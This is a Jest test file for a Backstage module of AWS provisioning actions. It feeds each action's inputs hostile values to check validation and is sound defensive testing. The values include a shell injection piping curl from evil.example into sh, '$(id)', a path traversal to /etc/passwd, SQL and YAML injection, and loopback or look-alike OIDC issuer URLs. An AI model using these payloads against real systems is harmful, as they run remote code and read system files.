/*
 * Hostile input to every action input, table-driven: wrong formats, empty, over-long, unicode
 * look-alikes, injection strings, wrong types, and the semantic traps (same account on both
 * sides, subnets in one AZ, a private ALB subnet, a VPC or security group from elsewhere, an
 * issuer that is not EKS or points at loopback, a host name outside its zone, a zone that is not
 * the one named, a web ACL of another account or region, or one that does not exist). Each must be refused with a message naming
 * the field, before any mutating AWS call (counted at the fault proxy in front of moto).
 */
import { CreateSubnetCommand, EC2Client } from '@aws-sdk/client-ec2';
import { JsonObject, JsonValue } from '@backstage/types';
import {
  SANDBOX_DNS_ACCOUNT_ID as DNS,
  SANDBOX_DNS_ZONE_NAME as ZONE_NAME,
  SandboxNetwork,
  seedSandboxDnsZone,
  seedSandboxWebAcl,
} from 'sandbox';
import {
  FlakySandbox,
  NETWORK,
  READ_ONLY_ACTION,
  REGION,
  WORKLOAD,
  client,
  createSandboxCluster,
  recipeActions,
  runAction,
  runRecipe,
  startFlakySandbox,
} from './__testUtils__/sandbox';

jest.setTimeout(120_000);

const CLUSTER = 'hostile';
const ISSUER_ID = '0123456789ABCDEF0123456789ABCDEF';
const EKS_ISSUER = `https://oidc.eks.${REGION}.amazonaws.com/id/${ISSUER_ID}`;

/** Latin letters and their Cyrillic twins. */
const CYRILLIC: Record<string, string> = {
  a: '\u0430',
  e: '\u0435',
  o: '\u043e',
  c: '\u0441',
  p: '\u0440',
  x: '\u0445',
  i: '\u0456',
  s: '\u0455',
};

function lookAlike(valid: string): string {
  const i = [...valid].findIndex(ch => CYRILLIC[ch]);
  if (i >= 0)
    return valid.slice(0, i) + CYRILLIC[valid[i]] + valid.slice(i + 1);
  // Digits only: full-width digits look the same in most fonts.
  return valid.replace(/[0-9]/g, d => String.fromCharCode(0xff10 + Number(d)));
}

/** Generic hostile values for a string field whose valid value is `valid`. */
function stringCases(valid: string): Array<[string, JsonValue]> {
  return [
    ['empty', ''],
    ['whitespace only', '   '],
    ['over-long', `${valid}${'a'.repeat(4096)}`],
    ['unicode look-alike', lookAlike(valid)],
    ['zero-width space', `${valid}\u200b`],
    ['trailing newline', `${valid}\n`],
    ['YAML injection', `${valid}\nkind: Secret`],
    ['template expression', '${{ secrets.GITHUB_TOKEN }}'],
    ['shell metacharacters', `${valid}; curl https://evil.example | sh`],
    ['command substitution', '$(id)'],
    ['SQL injection', "' OR 1=1 --"],
    ['path traversal', '../../etc/passwd'],
    ['number instead of string', 12345],
    ['null', null],
    ['object', { $ne: '' }],
  ];
}

function portCases(): Array<[string, JsonValue]> {
  return [
    ['negative', -1],
    ['above 65535', 65536],
    ['fraction', 80.5],
    ['string', '80'],
    ['null', null],
  ];
}

/**
 * Values a field legitimately accepts although they look hostile: security group names may
 * hold spaces and `._-:/()#,@[]+=&;{}!$*` (AWS allows them; the value only travels as an API
 * parameter), the thumbprint list is optional, and an empty stack asks the load balancer check
 * about the whole cluster (what the teardown template passes when the cluster set-up goes). Not
 * run, so they create nothing; listed in the printed summary.
 */
const LEGITIMATE: Record<string, string[]> = {
  groupName: [
    'whitespace only',
    'path traversal',
    'template expression',
    'command substitution',
  ],
  thumbprints: ['empty list'],
  stack: ['empty'],
  // Of one action only (`<action> <field>`): the teardown passes '' when it has no issuer
  // (the cluster is gone and none was given), and the provider is then left alone.
  'aws:iam:delete-external-dns-role oidcIssuerUrl': ['empty'],
};

const legitimate = (actionId: string, field: string, kind: string) =>
  !!(
    LEGITIMATE[field]?.includes(kind) ||
    LEGITIMATE[`${actionId} ${field}`]?.includes(kind)
  );

interface Case {
  actionId: string;
  field: string;
  kind: string;
  input: JsonObject;
}

/** Replaces the field (or the first element of an array field) in a copy of the base input. */
function withValue(
  base: JsonObject,
  field: string,
  value: JsonValue,
): JsonObject {
  const current = base[field];
  return {
    ...base,
    [field]: Array.isArray(current) ? [value, ...current.slice(1)] : value,
  };
}

function genericCases(actionId: string, base: JsonObject): Case[] {
  const cases: Case[] = [];
  for (const [field, value] of Object.entries(base)) {
    const sample = Array.isArray(value) ? value[0] : value;
    let table: Array<[string, JsonValue]> = [];
    if (typeof sample === 'number') table = portCases();
    if (typeof sample === 'string') table = stringCases(sample);
    for (const [kind, hostile] of table) {
      if (legitimate(actionId, field, kind)) continue;
      cases.push({
        actionId,
        field,
        kind,
        input: withValue(base, field, hostile),
      });
    }
    if (Array.isArray(value)) {
      for (const [kind, hostile] of [
        ['empty list', []],
        ['string instead of list', String(sample)],
      ] as Array<[string, JsonValue]>) {
        if (legitimate(actionId, field, kind)) continue;
        cases.push({
          actionId,
          field,
          kind,
          input: { ...base, [field]: hostile },
        });
      }
    }
  }
  return cases;
}

let sandbox: FlakySandbox;
let network: SandboxNetwork;
let byId: ReturnType<typeof recipeActions>['byId'];
const extra: {
  sameAzPrivateSubnetId?: string;
  albGroupId?: string;
  nodeGroupId?: string;
  hostedZoneId?: string;
  webAclArn?: string;
} = {};

/** Valid inputs of every action, for the seeded sandbox. */
function baseInputs(): Record<string, JsonObject> {
  const pub = network.publicSubnets.map(s => s.subnetId);
  const priv = network.privateSubnets.map(s => s.subnetId);
  return {
    'aws:ec2:describe-shared-network': {
      networkAccountId: NETWORK,
      region: REGION,
      vpcId: network.vpcId,
      albSubnetIds: pub,
      nodeSubnetIds: priv,
    },
    'aws:ram:share-subnets': {
      networkAccountId: NETWORK,
      region: REGION,
      subnetIds: priv,
      principals: [WORKLOAD],
      shareName: 'hostile-share',
      waitTimeoutSeconds: 30,
    },
    'aws:ec2:resolve-shared-subnets': {
      workloadAccountId: WORKLOAD,
      networkAccountId: NETWORK,
      region: REGION,
      subnetIds: priv,
    },
    'aws:eks:describe-cluster': {
      workloadAccountId: WORKLOAD,
      region: REGION,
      clusterName: CLUSTER,
    },
    'aws:iam:ensure-oidc-provider': {
      networkAccountId: NETWORK,
      region: REGION,
      oidcIssuerUrl: EKS_ISSUER,
      thumbprints: ['9e99a48a9960b14926bb7f3b02e22da2b0ab7280'],
    },
    'aws:iam:ensure-load-balancer-controller-role': {
      networkAccountId: NETWORK,
      workloadAccountId: WORKLOAD,
      region: REGION,
      clusterName: CLUSTER,
      oidcIssuerUrl: EKS_ISSUER,
      namespace: 'kube-system',
      serviceAccountName: 'aws-load-balancer-controller',
      roleName: 'hostile-lbc',
      policyName: 'AWSLoadBalancerControllerIAMPolicy',
    },
    'aws:ec2:ensure-alb-security-group': {
      networkAccountId: NETWORK,
      region: REGION,
      vpcId: network.vpcId,
      clusterName: CLUSTER,
      groupName: 'hostile-alb',
      scheme: 'internal',
      listenerPorts: [80],
      ingressCidrs: ['10.0.0.0/8'],
    },
    'aws:ec2:allow-alb-to-nodes': {
      workloadAccountId: WORKLOAD,
      networkAccountId: NETWORK,
      region: REGION,
      nodeSecurityGroupId: extra.nodeGroupId!,
      albSecurityGroupId: extra.albGroupId!,
      fromPort: 8080,
      toPort: 8080,
    },
    'aws:acm:ensure-certificate': {
      networkAccountId: NETWORK,
      region: REGION,
      hostName: `hostile.${ZONE_NAME}`,
      dnsAccountId: DNS,
      hostedZoneId: extra.hostedZoneId!,
      hostedZoneName: ZONE_NAME,
      waitTimeoutSeconds: 30,
    },
    'aws:wafv2:check-web-acl': {
      networkAccountId: NETWORK,
      region: REGION,
      wafAclArn: extra.webAclArn!,
    },
    'aws:iam:ensure-external-dns-role': {
      dnsAccountId: DNS,
      workloadAccountId: WORKLOAD,
      region: REGION,
      clusterName: CLUSTER,
      oidcIssuerUrl: EKS_ISSUER,
      hostedZoneId: extra.hostedZoneId!,
      hostedZoneName: ZONE_NAME,
    },
    'aws:acm:delete-certificate': {
      networkAccountId: NETWORK,
      region: REGION,
      hostName: `hostile.${ZONE_NAME}`,
      dnsAccountId: DNS,
      hostedZoneId: extra.hostedZoneId!,
      hostedZoneName: ZONE_NAME,
    },
    'aws:elbv2:check-no-load-balancers': {
      networkAccountId: NETWORK,
      region: REGION,
      clusterName: CLUSTER,
      stack: 'game-2048/game-2048',
    },
    'aws:ec2:revoke-alb-to-nodes': {
      workloadAccountId: WORKLOAD,
      networkAccountId: NETWORK,
      region: REGION,
      nodeSecurityGroupId: extra.nodeGroupId!,
      albSecurityGroupId: extra.albGroupId!,
      fromPort: 8080,
      toPort: 8080,
    },
    'aws:ec2:delete-alb-security-group': {
      networkAccountId: NETWORK,
      region: REGION,
      vpcId: network.vpcId,
      clusterName: CLUSTER,
      groupName: 'hostile-alb',
    },
    'aws:iam:delete-load-balancer-controller-role': {
      networkAccountId: NETWORK,
      region: REGION,
      clusterName: CLUSTER,
      roleName: 'hostile-lbc',
      policyName: 'AWSLoadBalancerControllerIAMPolicy',
    },
    'aws:iam:delete-external-dns-role': {
      dnsAccountId: DNS,
      workloadAccountId: WORKLOAD,
      region: REGION,
      clusterName: CLUSTER,
      oidcIssuerUrl: EKS_ISSUER,
    },
    'aws:iam:delete-oidc-provider': {
      networkAccountId: NETWORK,
      region: REGION,
      oidcIssuerUrl: EKS_ISSUER,
    },
    'aws:ram:delete-subnet-share': {
      networkAccountId: NETWORK,
      region: REGION,
      resourceShareArn: `arn:aws:ram:${REGION}:${NETWORK}:resource-share/0a1b2c3d-0000-4000-8000-000000000001`,
    },
  };
}

/** The traps that need AWS to be read to be recognised, and the formats that look right. */
function semanticCases(): Case[] {
  const base = baseInputs();
  const pub = network.publicSubnets.map(s => s.subnetId);
  const priv = network.privateSubnets.map(s => s.subnetId);
  const c = (
    actionId: string,
    field: string,
    kind: string,
    patch: JsonObject,
  ): Case => ({
    actionId,
    field,
    kind,
    input: { ...base[actionId], ...patch },
  });
  const issuers: Array<[string, string]> = [
    ['issuer that is not EKS', 'https://accounts.google.com'],
    ['issuer on loopback', `http://127.0.0.1:8080/id/${ISSUER_ID}`],
    ['issuer on loopback over https', `https://127.0.0.1/id/${ISSUER_ID}`],
    ['issuer on localhost', `https://localhost/id/${ISSUER_ID}`],
    [
      'issuer on a look-alike host',
      `https://oidc.eks.${REGION}.amazonaws.com.evil.example/id/${ISSUER_ID}`,
    ],
    [
      'issuer with user info',
      `https://oidc.eks.${REGION}.amazonaws.com@127.0.0.1/id/${ISSUER_ID}`,
    ],
    ['issuer over http', EKS_ISSUER.replace('https:', 'http:')],
    ['issuer with lower-case id', EKS_ISSUER.toLowerCase()],
    ['issuer with a query', `${EKS_ISSUER}?x=1`],
    ['issuer with a trailing slash', `${EKS_ISSUER}/`],
  ];
  return [
    c('aws:ram:share-subnets', 'principals', 'same account on both sides', {
      principals: [NETWORK],
    }),
    c('aws:ram:share-subnets', 'principals', 'external principal ARN', {
      principals: ['arn:aws:iam::333333333333:root'],
    }),
    c(
      'aws:ec2:resolve-shared-subnets',
      'workloadAccountId',
      'same account on both sides',
      { workloadAccountId: NETWORK },
    ),
    c(
      'aws:iam:ensure-load-balancer-controller-role',
      'workloadAccountId',
      'same account on both sides',
      { workloadAccountId: NETWORK },
    ),
    c(
      'aws:ec2:allow-alb-to-nodes',
      'workloadAccountId',
      'same account on both sides',
      { workloadAccountId: NETWORK },
    ),
    c('aws:ec2:allow-alb-to-nodes', 'toPort', 'toPort below fromPort', {
      fromPort: 8080,
      toPort: 80,
    }),
    c(
      'aws:ec2:describe-shared-network',
      'nodeSubnetIds',
      'node subnets in one AZ',
      { nodeSubnetIds: [priv[0], extra.sameAzPrivateSubnetId!] },
    ),
    c(
      'aws:ec2:describe-shared-network',
      'albSubnetIds',
      'ALB subnets in one AZ',
      { albSubnetIds: [pub[0], pub[0]] },
    ),
    c(
      'aws:ec2:describe-shared-network',
      'albSubnetIds',
      'ALB subnet that is private',
      { albSubnetIds: [pub[0], priv[1]] },
    ),
    c(
      'aws:ec2:ensure-alb-security-group',
      'groupName',
      'group name like an ID',
      { groupName: 'sg-0123456789abcdef0' },
    ),
    c(
      'aws:ec2:allow-alb-to-nodes',
      'nodeSecurityGroupId',
      'node group that does not exist',
      { nodeSecurityGroupId: 'sg-0123456789abcdef0' },
    ),
    c('aws:acm:ensure-certificate', 'hostName', 'name outside the zone', {
      hostName: 'hostile.example.org',
    }),
    c(
      'aws:acm:ensure-certificate',
      'hostName',
      'name ending like the zone without being in it',
      { hostName: `hostile.bad${ZONE_NAME}` },
    ),
    c(
      'aws:acm:ensure-certificate',
      'hostedZoneId',
      "zone the cluster's external-dns has no role for",
      { clusterName: 'no-external-dns', workloadAccountId: WORKLOAD },
    ),
    c('aws:acm:ensure-certificate', 'hostName', 'wildcard name', {
      hostName: `*.${ZONE_NAME}`,
    }),
    c('aws:acm:ensure-certificate', 'hostName', 'upper-case name', {
      hostName: `Hostile.${ZONE_NAME}`,
    }),
    c(
      'aws:acm:ensure-certificate',
      'hostedZoneId',
      'zone that does not exist',
      { hostedZoneId: 'Z0000000000000000000000' },
    ),
    c(
      'aws:acm:ensure-certificate',
      'hostedZoneName',
      'zone ID of another zone than the one named',
      { hostedZoneName: 'other.test', hostName: 'hostile.other.test' },
    ),
    c(
      'aws:acm:ensure-certificate',
      'dnsAccountId',
      'account Backstage has no role in',
      { dnsAccountId: '444444444444' },
    ),
    c('aws:wafv2:check-web-acl', 'wafAclArn', 'web ACL of another account', {
      wafAclArn: base['aws:wafv2:check-web-acl']
        .wafAclArn!.toString()
        .replace(`:${NETWORK}:`, `:${WORKLOAD}:`),
    }),
    c('aws:wafv2:check-web-acl', 'wafAclArn', 'web ACL of another region', {
      wafAclArn: base['aws:wafv2:check-web-acl']
        .wafAclArn!.toString()
        .replace(`:${REGION}:`, ':eu-west-1:'),
    }),
    c('aws:wafv2:check-web-acl', 'wafAclArn', 'CloudFront (global) web ACL', {
      wafAclArn: base['aws:wafv2:check-web-acl']
        .wafAclArn!.toString()
        .replace(':regional/', ':global/'),
    }),
    c('aws:wafv2:check-web-acl', 'wafAclArn', 'web ACL that does not exist', {
      wafAclArn: base['aws:wafv2:check-web-acl']
        .wafAclArn!.toString()
        .replace(/[0-9a-f-]{36}$/, '00000000-0000-4000-8000-000000000000'),
    }),
    c(
      'aws:iam:ensure-external-dns-role',
      'hostedZoneId',
      'zone that does not exist',
      { hostedZoneId: 'Z0000000000000000000000' },
    ),
    c(
      'aws:iam:ensure-external-dns-role',
      'hostedZoneName',
      'zone ID of another zone than the one named',
      { hostedZoneName: 'other.test' },
    ),
    c(
      'aws:iam:ensure-external-dns-role',
      'dnsAccountId',
      'account Backstage has no role in',
      { dnsAccountId: '444444444444' },
    ),
    c(
      'aws:iam:delete-external-dns-role',
      'dnsAccountId',
      'account Backstage has no role in',
      { dnsAccountId: '444444444444' },
    ),
    c('aws:acm:delete-certificate', 'hostName', 'name outside the zone', {
      hostName: 'hostile.example.org',
    }),
    c(
      'aws:acm:delete-certificate',
      'hostedZoneId',
      'zone that does not exist',
      { hostedZoneId: 'Z0000000000000000000000' },
    ),
    c(
      'aws:acm:delete-certificate',
      'dnsAccountId',
      'account Backstage has no role in',
      { dnsAccountId: '444444444444' },
    ),
    ...issuers.map(([kind, url]) =>
      c('aws:iam:ensure-external-dns-role', 'oidcIssuerUrl', kind, {
        oidcIssuerUrl: url,
      }),
    ),
    ...issuers.flatMap(([kind, url]) => [
      c('aws:iam:ensure-oidc-provider', 'oidcIssuerUrl', kind, {
        oidcIssuerUrl: url,
      }),
      c('aws:iam:ensure-load-balancer-controller-role', 'oidcIssuerUrl', kind, {
        oidcIssuerUrl: url,
      }),
    ]),
  ];
}

beforeAll(async () => {
  sandbox = await startFlakySandbox('hostile');
  network = sandbox.network;
  const ec2A = await client(EC2Client, NETWORK);
  // A second private subnet in the AZ of the first one.
  extra.sameAzPrivateSubnetId = (
    await ec2A.send(
      new CreateSubnetCommand({
        VpcId: network.vpcId,
        CidrBlock: '10.20.12.0/24',
        AvailabilityZone: network.privateSubnets[0].availabilityZone,
      }),
    )
  ).Subnet!.SubnetId!;
  // The recipe once, so every valid input refers to something that exists.
  byId = recipeActions().byId;
  const run = await runRecipe(byId, network, CLUSTER, {
    createCluster: () => createSandboxCluster(network, CLUSTER),
  });
  extra.albGroupId =
    run.outputs['aws:ec2:ensure-alb-security-group'].securityGroupId;
  extra.nodeGroupId =
    run.outputs['aws:eks:describe-cluster'].clusterSecurityGroupId;
  extra.hostedZoneId = (await seedSandboxDnsZone()).hostedZoneId;
  extra.webAclArn = (await seedSandboxWebAcl()).arn;
});
afterAll(() => sandbox?.stop());

const ACTION_IDS = [
  'aws:ec2:describe-shared-network',
  'aws:ram:share-subnets',
  'aws:ec2:resolve-shared-subnets',
  'aws:eks:describe-cluster',
  'aws:iam:ensure-oidc-provider',
  'aws:iam:ensure-load-balancer-controller-role',
  'aws:ec2:ensure-alb-security-group',
  'aws:ec2:allow-alb-to-nodes',
  'aws:acm:ensure-certificate',
  'aws:wafv2:check-web-acl',
  'aws:iam:ensure-external-dns-role',
  'aws:acm:delete-certificate',
  'aws:elbv2:check-no-load-balancers',
  'aws:ec2:revoke-alb-to-nodes',
  'aws:ec2:delete-alb-security-group',
  'aws:iam:delete-load-balancer-controller-role',
  'aws:iam:delete-external-dns-role',
  'aws:iam:delete-oidc-provider',
  'aws:ram:delete-subnet-share',
];

interface Row {
  cases: number;
  refused: number;
  mutatingCalls: number;
  awsReads: number;
}
const summary: Record<string, Row> = {};

afterAll(() => {
  const total = Object.values(summary).reduce(
    (a, r) => ({
      cases: a.cases + r.cases,
      refused: a.refused + r.refused,
      mutatingCalls: a.mutatingCalls + r.mutatingCalls,
      awsReads: a.awsReads + r.awsReads,
    }),
    { cases: 0, refused: 0, mutatingCalls: 0, awsReads: 0 },
  );
  // eslint-disable-next-line no-console
  console.log(
    `hostile input: ${JSON.stringify(total)}\n${Object.entries(summary)
      .map(([id, r]) => `  ${id}: ${JSON.stringify(r)}`)
      .join('\n')}\n  not run (legitimate values): ${JSON.stringify(
      LEGITIMATE,
    )}`,
  );
});

describe('hostile input to every action', () => {
  it('covers every action of the module', () => {
    expect(
      recipeActions()
        .list.map(a => a.id)
        .sort(),
    ).toEqual([...ACTION_IDS].sort());
  });

  it.each(ACTION_IDS)(
    '%s refuses each case with a message naming the field, before any mutating AWS call',
    async actionId => {
      const cases = [
        ...genericCases(actionId, baseInputs()[actionId]),
        ...semanticCases().filter(c => c.actionId === actionId),
      ];
      const problems: string[] = [];
      const row: Row = { cases: 0, refused: 0, mutatingCalls: 0, awsReads: 0 };
      summary[actionId] = row;
      for (const test of cases) {
        const mark = sandbox.proxy.calls.length;
        let error: Error | undefined;
        try {
          await runAction(byId, test.actionId, test.input);
        } catch (e) {
          error = e as Error;
        }
        const seen = sandbox.proxy.calls
          .slice(mark)
          .map(call => `${call.service}:${call.action}`)
          .filter(a => !a.startsWith('sts:'));
        const mutating = seen.filter(a => !READ_ONLY_ACTION.test(a));
        row.cases++;
        row.awsReads += seen.length - mutating.length;
        row.mutatingCalls += mutating.length;
        const label = `${test.field} (${test.kind})`;
        if (!error) {
          problems.push(`${label}: accepted`);
          continue;
        }
        row.refused++;
        if (!error.message.includes(test.field)) {
          problems.push(
            `${label}: message does not name the field: ${error.message}`,
          );
        }
        if (mutating.length) {
          problems.push(
            `${label}: mutating calls before refusing: ${mutating.join(', ')}`,
          );
        }
      }
      expect(problems).toEqual([]);
      expect(row.refused).toBe(cases.length);
      expect(row.mutatingCalls).toBe(0);
    },
  );
});
